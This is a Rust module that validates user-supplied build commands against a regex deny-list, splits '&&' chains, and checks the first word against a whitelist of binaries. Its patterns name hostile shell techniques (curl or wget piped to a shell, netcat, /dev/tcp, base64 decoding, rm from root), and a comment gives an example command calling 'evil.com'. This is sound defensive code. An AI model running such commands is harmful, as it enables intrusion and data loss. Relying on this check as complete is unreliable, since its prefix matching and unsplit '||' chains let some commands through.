//! Build-command validation.
//!
//! The build trigger accepts a user-supplied command line. A pure
//! deny-list is insufficient against chained commands, so validation
//! is layered: dangerous patterns reject first and unconditionally,
//! `&&`-chains are split and every segment validated recursively, and
//! the surviving command's head token must match a whitelist of build
//! binaries.

use regex::Regex;
use std::sync::LazyLock;

/// Binaries a build command may start with.
const ALLOWED_BINARIES: &[&str] = &[
    "npm", "yarn", "pnpm", "bun", "node", "npx", "next", "vite", "turbo", "tsc", "esbuild",
    "rollup", "webpack", "parcel", "grunt", "gulp", "make",
];

/// Patterns that reject a command outright, wherever they appear.
static DANGEROUS_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (r";", "command separator"),
        // A bare pipe — `||` is handled separately below.
        (r"(^|[^|])\|([^|]|$)", "pipe"),
        (r"\$\(", "command substitution"),
        (r"\$\{", "parameter expansion"),
        (r"\$[A-Za-z_]", "variable expansion"),
        (r"`", "backtick substitution"),
        (r"[\r\n]", "raw newline"),
        (r"<\(", "process substitution"),
        (r">\(", "process substitution"),
        (r"<<", "here-document"),
        (r">+\s*/(etc|dev|proc|sys|boot)\b", "redirect into system directory"),
        (r"\brm\s+(-[A-Za-z]+\s+)*/", "recursive delete from root"),
        (r"\b(curl|wget)\b[^|]*\|\s*(ba|z|da)?sh\b", "pipe-to-shell download"),
        (r"\beval\(", "eval"),
        (r"\bbase64\s+(-d|--decode)\b", "base64 decode"),
        (r"\|\|\s*(sh|bash|curl|wget|nc)\b", "fallback to shell/download"),
        (r"\bnc\s", "netcat"),
        (r"/dev/tcp", "raw tcp device"),
    ]
    .iter()
    .map(|(pattern, reason)| {
        (
            Regex::new(pattern).expect("dangerous pattern compiles"),
            *reason,
        )
    })
    .collect()
});

/// Outcome of build-command validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandVerdict {
    pub valid: bool,
    pub reason: Option<String>,
}

impl CommandVerdict {
    fn ok() -> Self {
        Self {
            valid: true,
            reason: None,
        }
    }

    fn rejected(reason: impl Into<String>) -> Self {
        Self {
            valid: false,
            reason: Some(reason.into()),
        }
    }
}

/// Validate a build command.
///
/// An empty or whitespace-only command is valid (no-op build). The
/// dangerous-pattern check runs before anything else so that a
/// whitelisted prefix can never vouch for a dangerous suffix.
pub fn is_valid_build_command(cmd: &str) -> CommandVerdict {
    let trimmed = cmd.trim();
    if trimmed.is_empty() {
        return CommandVerdict::ok();
    }

    for (pattern, reason) in DANGEROUS_PATTERNS.iter() {
        if pattern.is_match(trimmed) {
            return CommandVerdict::rejected(format!("dangerous pattern: {reason}"));
        }
    }

    // Validate every `&&` segment independently. Ordering is
    // load-bearing: `npm run build && curl evil.com` must fail on the
    // second segment even though the first is whitelisted.
    if trimmed.contains("&&") {
        for segment in trimmed.split("&&") {
            let verdict = is_valid_build_command(segment);
            if !verdict.valid {
                return verdict;
            }
        }
        return CommandVerdict::ok();
    }

    let head = trimmed.split_whitespace().next().unwrap_or("");
    if ALLOWED_BINARIES.iter().any(|bin| head.starts_with(bin)) {
        CommandVerdict::ok()
    } else {
        CommandVerdict::rejected(format!("binary not in whitelist: {head}"))
    }
}
